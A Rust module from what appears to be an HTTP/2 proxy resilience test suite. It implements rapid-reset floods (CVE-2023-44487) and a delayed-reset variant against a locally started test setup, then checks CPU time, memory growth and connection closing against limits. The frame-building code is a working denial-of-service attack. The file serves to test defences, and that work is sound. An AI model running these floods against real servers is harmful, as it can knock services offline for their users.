use std::time::Duration;

use futures_util::FutureExt;
use tokio::{task::JoinSet, time, time::Instant};

use super::{
    Attack, Closes, Finding, Frames, How, MIB,
    floods::{noticed, windows},
    growth,
    h2::{CANCEL, END_HEADERS, END_STREAM, HEADERS, Peer, RST_STREAM, State, frame, head},
    observer::{Observer, WINDOW},
    scene::Setup,
};

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid-reset-1",
        title: "HTTP/2: rapid reset, one connection",
        words: "Streams are opened and reset at once, as fast as they are taken (CVE-2023-44487). \
                Who is closed comes back after 10 ms, here and in all that follows.",
        flags: &[],
        how: How::Flood(1, Closes::Soon, make),
    },
    Attack {
        name: "rapid-reset-20",
        title: "HTTP/2: rapid reset, 20 connections",
        words: "The same from 20 connections at once.",
        flags: &[],
        how: How::Flood(20, Closes::Soon, make),
    },
    Attack {
        name: "patient-reset",
        title: "HTTP/2: resets once the request has gone out",
        words: "20 connections open 100 streams each whose answers take a second, and reset them \
                20 ms later, when the requests are under way to the server; then the next 100. A \
                connection to the server is lost with each.",
        flags: &[],
        how: How::Own(|setup| patient(setup).boxed()),
    },
];

fn make() -> Frames {
    let mut stream = 1u32;
    let request = head("GET", "/");
    Box::new(move |to| {
        for _ in 0..100 {
            frame(to, HEADERS, END_HEADERS | END_STREAM, stream, &request);
            frame(to, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            stream += 2;
        }
        200
    })
}

const STREAMS: usize = 100;

/// After so many streams that nobody waited for, nobody serves that connection.
const RESETS: u64 = 1000;

async fn patient(setup: &Setup) -> anyhow::Result<Vec<Finding>> {
    let scene = setup.start().await?;
    let observer = Observer::start(scene.address)?;
    let idle = observer.windows(2).await;
    let (address, windows) = (scene.address, windows(setup));
    let until = Instant::now() + WINDOW * u32::try_from(windows)?;
    let cpu = scene.proxy.cpu();
    let mut attackers = JoinSet::new();
    for number in 0..20 {
        attackers.spawn(async move {
            let mut ends = Vec::new();
            while Instant::now() < until {
                if let Ok(mut peer) = Peer::connect(address, number, &[]).await {
                    ends.push(reset(&mut peer, until).await);
                }
                time::sleep(Duration::from_millis(10)).await;
            }
            ends
        });
    }
    let during = observer.windows(windows).await;
    let cpu = Duration::from_nanos(scene.proxy.cpu() - cpu);
    let mut ends = Vec::new();
    while let Some(some) = attackers.join_next().await {
        ends.extend(some?);
    }
    let resets: u64 = ends.iter().map(|(resets, _)| resets).sum();
    let most = ends.iter().map(|(resets, _)| *resets).max().unwrap_or(0);
    let closed = ends.iter().filter(|(_, state)| *state != State::Open).count();
    let time = WINDOW.as_secs_f64() * windows as f64;
    let mut findings = vec![
        Finding::new(
            "sent; processor time",
            format!(
                "{resets} streams on {} connections; {:.2} s each second, {:.0} µs a stream",
                ends.len(),
                cpu.as_secs_f64() / time,
                cpu.as_secs_f64() * 1e6 / resets.max(1) as f64
            ),
        ),
        Finding::new(
            "how connections ended",
            format!("{closed} of {} closed, after at most {most} resets", ends.len()),
        )
        .bound(format!("≤ {RESETS} resets"), most <= RESETS),
        growth("memory, at the most", scene.growth()?, 32 * MIB),
    ];
    findings.extend(noticed(&idle, &during));
    Ok(findings)
}

async fn reset(peer: &mut Peer, until: Instant) -> (u64, State) {
    let request = head("GET", "/late");
    let (mut stream, mut resets) = (1u32, 0);
    while Instant::now() < until && peer.state() == State::Open {
        let (mut opens, mut closes) = (Vec::new(), Vec::new());
        for _ in 0..STREAMS {
            frame(&mut opens, HEADERS, END_HEADERS | END_STREAM, stream, &request);
            frame(&mut closes, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            stream += 2;
        }
        if peer.send(&opens).await.is_err() {
            break;
        }
        time::sleep(Duration::from_millis(20)).await;
        if peer.send(&closes).await.is_err() {
            break;
        }
        resets += STREAMS as u64;
    }
    if Instant::now() < until {
        let _ = time::timeout(Duration::from_secs(2), peer.closed()).await;
    }
    (resets, peer.state())
}
